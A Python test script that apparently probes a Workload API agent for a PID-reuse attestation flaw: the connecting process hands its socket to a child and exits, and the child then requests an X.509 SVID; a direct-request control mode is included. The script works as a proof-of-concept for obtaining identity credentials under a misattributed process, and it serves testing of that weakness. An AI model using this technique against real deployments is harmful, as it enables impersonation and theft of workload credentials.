"""PID-reuse check: the process that connected to the Workload API is gone (replaced by another
process) before the request is attested.

usage: pid_reuse.py SOCKET_PATH          (connect, hand over, exit: the attack)
       pid_reuse.py --direct SOCKET_PATH (the same request from the connecting process: control)

The parent connects a Unix socket to the agent, hands the connected socket to a child process,
and exits. The child (a different process, which the kernel did not record as the peer) sends
FetchX509SVID over raw HTTP/2. Prints {"grpc_status": N|null, "got_svid": bool, "reset": bool}.
"""

import json
import os
import socket
import subprocess
import sys

import raw_h2


def child(fd: int) -> int:
    sock = socket.socket(fileno=fd)
    sock.settimeout(10)
    out = raw_h2.fetch_x509svid(sock, raw_h2.client(sock))
    print(json.dumps({k: out[k] for k in ("grpc_status", "got_svid", "reset")}))
    return 0


def main() -> int:
    if sys.argv[1] == "--child":
        return child(int(sys.argv[2]))
    if sys.argv[1] == "--direct":
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(sys.argv[2])
        return child(os.dup(sock.fileno()))
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(sys.argv[1])
    fd = sock.fileno()
    proc = subprocess.Popen([sys.executable, __file__, "--child", str(fd)], pass_fds=[fd])
    # The connecting process leaves; only the child holds the connection now.
    os._exit(0 if proc.pid > 0 else 1)


if __name__ == "__main__":
    sys.exit(main())
